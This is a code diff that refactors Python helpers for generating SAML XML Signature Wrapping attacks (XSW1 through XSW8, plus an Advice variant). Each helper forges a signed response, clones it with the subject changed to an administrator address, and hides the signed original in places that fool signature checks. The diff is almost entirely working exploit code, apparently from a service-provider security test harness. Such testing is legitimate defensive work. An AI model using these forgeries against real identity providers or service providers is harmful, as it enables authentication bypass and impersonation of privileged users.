@@ -144,13 +144,31 @@ def _object(signature: etree._Element) -> etree._Element:
     return etree.SubElement(signature, f"{DS}Object")
 
 
-def xsw1(sp, rid):
-    """Response-level signature; the signed original moves into ds:Object, an evil Response takes its place."""
+def _evil_response(sp, rid) -> tuple[etree._Element, etree._Element]:
+    """A Response signed as a whole, and a copy naming someone else that keeps its signature."""
     original = forge.response(sp.spec(rid))
     forge.sign(original, sp.idp_keys)
     evil = copy.deepcopy(original)
     evil.set("ID", "_evil-response")
     evil.find(f"{SAML}Assertion/{SAML}Subject/{SAML}NameID").text = "admin@gouv.nc"
+    return original, evil
+
+
+def _planted(sp, rid, *, keep_signature: bool):
+    """A signed assertion with an evil copy placed before it: (response, original, evil).  With
+    ``keep_signature`` the copy takes the signature and the original loses its own."""
+    root = signed_root(sp, rid)
+    original = forge.assertion_of(root)
+    evil = _evil(original, keep_signature=keep_signature)
+    original.addprevious(evil)
+    if keep_signature:
+        original.remove(original.find(f"{DS}Signature"))
+    return root, original, evil
+
+
+def xsw1(sp, rid):
+    """Response-level signature; the signed original moves into ds:Object, an evil Response takes its place."""
+    original, evil = _evil_response(sp, rid)
     signature = evil.find(f"{DS}Signature")
     for child in list(signature):
         if child.tag != f"{DS}SignedInfo" and child.tag != f"{DS}SignatureValue":
@@ -162,62 +180,40 @@ def xsw1(sp, rid):
 
 def xsw2(sp, rid):
     """Like XSW1, with the signed original as a detached sibling before the evil content."""
-    original = forge.response(sp.spec(rid))
-    forge.sign(original, sp.idp_keys)
-    evil = copy.deepcopy(original)
-    evil.set("ID", "_evil-response")
-    evil.find(f"{SAML}Assertion/{SAML}Subject/{SAML}NameID").text = "admin@gouv.nc"
-    signature = evil.find(f"{DS}Signature")
-    signature.addnext(copy.deepcopy(original))
+    original, evil = _evil_response(sp, rid)
+    evil.find(f"{DS}Signature").addnext(copy.deepcopy(original))
     return evil
 
 
 def xsw3(sp, rid):
     """An unsigned evil assertion placed before the signed one."""
-    root = signed_root(sp, rid)
-    original = forge.assertion_of(root)
-    original.addprevious(_evil(original, keep_signature=False))
-    return root
+    return _planted(sp, rid, keep_signature=False)[0]
 
 
 def xsw4(sp, rid):
     """The signed assertion wrapped inside an evil one."""
-    root = signed_root(sp, rid)
-    original = forge.assertion_of(root)
-    evil = _evil(original, keep_signature=False)
-    original.addprevious(evil)
+    root, original, evil = _planted(sp, rid, keep_signature=False)
     evil.append(original)
     return root
 
 
 def xsw5(sp, rid):
     """An evil copy keeps the signature (pointing to the original ID); the original is moved to the end."""
-    root = signed_root(sp, rid)
-    original = forge.assertion_of(root)
-    evil = _evil(original, keep_signature=True)
-    original.addprevious(evil)
-    original.remove(original.find(f"{DS}Signature"))
+    root, original, _ = _planted(sp, rid, keep_signature=True)
     root.append(original)
     return root
 
 
 def xsw6(sp, rid):
     """An evil copy keeps the signature; the original sits in that signature's ds:Object."""
-    root = signed_root(sp, rid)
-    original = forge.assertion_of(root)
-    evil = _evil(original, keep_signature=True)
-    original.addprevious(evil)
-    original.remove(original.find(f"{DS}Signature"))
+    root, original, evil = _planted(sp, rid, keep_signature=True)
     _object(evil.find(f"{DS}Signature")).append(original)
     return root
 
 
 def xsw7(sp, rid):
     """The signed original hidden in samlp:Extensions, an unsigned evil assertion in its place."""
-    root = signed_root(sp, rid)
-    original = forge.assertion_of(root)
-    evil = _evil(original, keep_signature=False)
-    original.addprevious(evil)
+    root, original, _ = _planted(sp, rid, keep_signature=False)
     extensions = etree.Element(f"{SAMLP}Extensions")
     root.find(f"{SAML}Issuer").addnext(extensions)
     extensions.append(original)
@@ -226,11 +222,7 @@ def xsw7(sp, rid):
 
 def xsw8(sp, rid):
     """An evil copy with the signature, the original (without its signature) inside ds:Object."""
-    root = signed_root(sp, rid)
-    original = forge.assertion_of(root)
-    evil = _evil(original, keep_signature=True)
-    original.addprevious(evil)
-    original.remove(original.find(f"{DS}Signature"))
+    root, original, evil = _planted(sp, rid, keep_signature=True)
     _object(evil.find(f"{DS}Signature")).append(original)
     evil.set("ID", original.get("ID") + "-x")
     return root
@@ -238,12 +230,8 @@ def xsw8(sp, rid):
 
 def advice(sp, rid):
     """A copy of the signed assertion in the evil assertion's Advice."""
-    root = signed_root(sp, rid)
-    original = forge.assertion_of(root)
-    evil = _evil(original, keep_signature=False)
-    original.addprevious(evil)
-    conditions = evil.find(f"{SAML}Conditions")
-    conditions.addnext(etree.Element(f"{SAML}Advice"))
+    root, original, evil = _planted(sp, rid, keep_signature=False)
+    evil.find(f"{SAML}Conditions").addnext(etree.Element(f"{SAML}Advice"))
     evil.find(f"{SAML}Advice").append(original)
     return root
 
